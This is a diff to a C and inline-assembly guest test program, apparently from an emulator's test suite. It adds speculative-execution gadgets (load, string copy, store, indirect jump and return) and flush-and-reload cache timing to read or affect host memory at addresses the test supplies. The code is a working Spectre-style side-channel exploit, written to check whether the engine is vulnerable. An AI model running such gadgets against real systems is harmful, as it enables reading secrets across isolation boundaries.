@@ -1,39 +1,94 @@
 /*
- * Reads host memory by speculation, if the engine lets it: past a branch of the guest's own that is
- * mispredicted, the lookup of an address that is not cached is mispredicted as well, and what the
- * access then finds is told by a cache line. The address comes from the console, and the bytes go
- * there: the test compares them with what lies in the machine process.
+ * Gadgets of speculation: each makes the host do something at an address that the guest names, past
+ * a branch of the guest's own that is mispredicted, if the engine lets it. What came of it is told
+ * by a cache line.
  *
- * The lookup's branch resolves late, because many older ones become ready with it; that gives the
- * two loads their time.
+ *   load     reads a byte there
+ *   string   the same, by MOVSB
+ *   store    writes a byte there, which is looked for by another name of the same place
+ *   jump     jumps there; the code that is to be executed touches a line
+ *   return   the same, by RET
+ *
+ * The address comes from the console, and what was found goes there: the test compares it with what
+ * lies in the machine process. For load and string: past that branch the lookup of an address that
+ * is not cached is mispredicted as well; its branch resolves late, because many older ones become
+ * ready with it, which gives the two loads their time.
  */
 #include "guest.h"
 
-enum { STRIDE = 1024, VALUES = 256, ROUNDS = 400, TRAININGS = 12, SECRET_BYTES = 8 };
+enum {
+	STRIDE = 1024,
+	VALUES = 256,
+	ROUNDS = 400,
+	TRAININGS = 12,
+	SECRET_BYTES = 8,
+	PAGE_BYTES = 1 << 12
+};
 
-static uint8_t probe[(VALUES + 1) * STRIDE] __attribute__((aligned(4096)));
+static uint8_t probe[(VALUES + 1) * STRIDE] __attribute__((aligned(PAGE_BYTES)));
 static uint64_t slow[64] __attribute__((aligned(64)));
 static uint8_t harmless[64] __attribute__((aligned(64)));
+static uint8_t scratch[64] __attribute__((aligned(64)));
+uint8_t copy[64] __attribute__((aligned(64)));
+/* Known to the test by their names. */
+uint8_t alias[PAGE_BYTES] __attribute__((aligned(PAGE_BYTES)));
+void land(void);
+void nothing(void);
 
 /*
  * rdi: address, rsi: probe, rdx: zero in memory that is not cached when the address is the
- * attacker's, rcx: 0 architecturally to read.
+ * attacker's, rcx: 0 architecturally to do it.
  */
-void gadget(const void *address, const uint8_t *probe, const uint64_t *slow, uint64_t skip);
-__asm__(".p2align 12\n"
-	"gadget: mov (%rdx), %rax\n"
+typedef void gadget_code(const void *address, const uint8_t *probe, const uint64_t *slow,
+			 uint64_t skip);
+gadget_code gadget_load, gadget_string, gadget_store, gadget_jump, gadget_return;
+__asm__(".macro begin_gadget older\n"
+	"mov (%rdx), %rax\n"
 	"mov (%rax), %rax\n"
 	"mov 128(%rdx), %r9\n"
 	"add %rcx, %rax\n"
 	"test %rax, %rax; jnz 1f\n"
-	".rept 38; test $1, %r9b; jnz 1f; .endr\n"
+	".rept \\older; test $1, %r9b; jnz 1f; .endr\n"
 	"add %r9, %rdi\n"
 	"jmp 2f; 2:\n"
-	"movzbl (%rdi), %ecx\n"
-	"shl $10, %ecx\n"
-	"add %rsi, %rcx\n"
+	".endm\n"
+	".macro tell value, probe\n"
+	"shl $10, \\value\n"
+	"add \\probe, %rcx\n"
 	"movzbl (%rcx), %ecx\n"
 	"1: ret\n"
+	".p2align 12\n"
+	".endm\n"
+	".p2align 12\n"
+	"gadget_load: begin_gadget 38\n"
+	"movzbl (%rdi), %ecx\n"
+	"tell %ecx, %rsi\n"
+	"gadget_string: begin_gadget 38\n"
+	"mov %rsi, %r8\n"
+	"mov %rdi, %rsi\n"
+	"mov $copy, %edi\n"
+	"movsb\n"
+	"movzbl copy, %ecx\n"
+	"tell %ecx, %r8\n"
+	"gadget_store: begin_gadget 38\n"
+	"movb $0x5a, (%rdi)\n"
+	"movzbl alias, %ecx\n"
+	"tell %ecx, %rsi\n"
+	"gadget_jump: begin_gadget 0\n"
+	"jmp *%rdi\n"
+	"1: ret\n"
+	".p2align 12\n"
+	"gadget_return: begin_gadget 0\n"
+	"push %rdi\n"
+	"ret\n"
+	"1: ret\n"
+	".p2align 12\n"
+	".globl land, nothing\n"
+	"nothing: ret\n"
+	".p2align 12\n"
+	"land: mov $0x1a9d3a2b, %eax\n" /* by which the test finds its translation */
+	"movzbl 0x5a * 1024(%rsi), %ecx\n"
+	"ret\n"
 	".p2align 12\n");
 
 static inline void flush(const void *at)
@@ -90,24 +145,34 @@ static uint64_t rnd(void)
 	return seed;
 }
 
-static void attack(const uint8_t *address)
+struct attack { char name; gadget_code *gadget; const void *training; unsigned bytes; };
+
+static const struct attack attacks[] = {
+	{ .name = 'l', .gadget = gadget_load, .training = harmless, .bytes = SECRET_BYTES },
+	{ .name = 'm', .gadget = gadget_string, .training = harmless, .bytes = SECRET_BYTES },
+	{ .name = 's', .gadget = gadget_store, .training = scratch, .bytes = 1 },
+	{ .name = 'j', .gadget = gadget_jump, .training = (const void *)nothing, .bytes = 1 },
+	{ .name = 'r', .gadget = gadget_return, .training = (const void *)nothing, .bytes = 1 },
+};
+
+static void attack(const struct attack *a, const uint8_t *address)
 {
 	for (unsigned n = 0; n < TRAININGS * 3; n++) {
 		/* the attacker's turn without a branch: its history would tell */
 		uint64_t turn = (uint64_t)(-(int64_t)(rnd() % TRAININGS)) >> 63; /* 1: training */
 		uint64_t mask = turn - 1;
 		const uint8_t *at = (const uint8_t *)(((uint64_t)address & mask) |
-						      ((uint64_t)harmless & ~mask));
+						      ((uint64_t)a->training & ~mask));
 
 		flush(slow);
 		flush(slow + 16);
 		flush(slow + 32);
 		fence();
-		gadget(at, probe, slow, mask & 1);
+		a->gadget(at, probe, slow, mask & 1);
 	}
 }
 
-static int read_byte(const uint8_t *address)
+static int read_byte(const struct attack *a, const uint8_t *address)
 {
 	static unsigned score[VALUES];
 	int best = -1;
@@ -118,7 +183,7 @@ static int read_byte(const uint8_t *address)
 		for (int v = 0; v < VALUES; v++)
 			flush(probe + v * STRIDE);
 		fence();
-		attack(address);
+		attack(a, address);
 		for (int n = 0; n < VALUES; n++) {
 			int v = (n * 167 + 13) & (VALUES - 1);
 
@@ -152,20 +217,37 @@ static uint64_t console_number(void)
 	return v;
 }
 
+static const struct attack *console_attack(void)
+{
+	uint8_t name = console_byte();
+
+	for (unsigned n = 0; n < sizeof(attacks) / sizeof(attacks[0]); n++)
+		if (attacks[n].name == name)
+			return &attacks[n];
+	return NULL;
+}
+
 static void touch(void *at) { (void)*(volatile uint8_t *)at; }
+static void clear(void *at) { *(volatile uint8_t *)at = 0; }
 
 void test_main(void)
 {
+	const struct attack *a;
+
 	for (unsigned n = 0; n < sizeof(probe); n++)
 		probe[n] = 1;
 	slow[0] = (uint64_t)(slow + 32);
 	calibrate();
+	gadget_jump(land, probe, slow, 0); /* translated, and where jumps find it */
 	print("READY\n");
-	for (uint64_t at; (at = console_number());) {
-		try_code(touch, (void *)at); /* the table of its neighbourhood is there now */
+	while ((a = console_attack())) {
+		uint64_t at = console_number();
+
+		/* the table of its neighbourhood is there now */
+		try_code(a->gadget == gadget_store ? clear : touch, (void *)at);
 		print("read");
-		for (unsigned n = 0; n < SECRET_BYTES; n++) {
-			int v = read_byte((const uint8_t *)at + n);
+		for (unsigned n = 0; n < a->bytes; n++) {
+			int v = read_byte(a, (const uint8_t *)at + n);
 
 			print(" ");
 			if (v < 0)
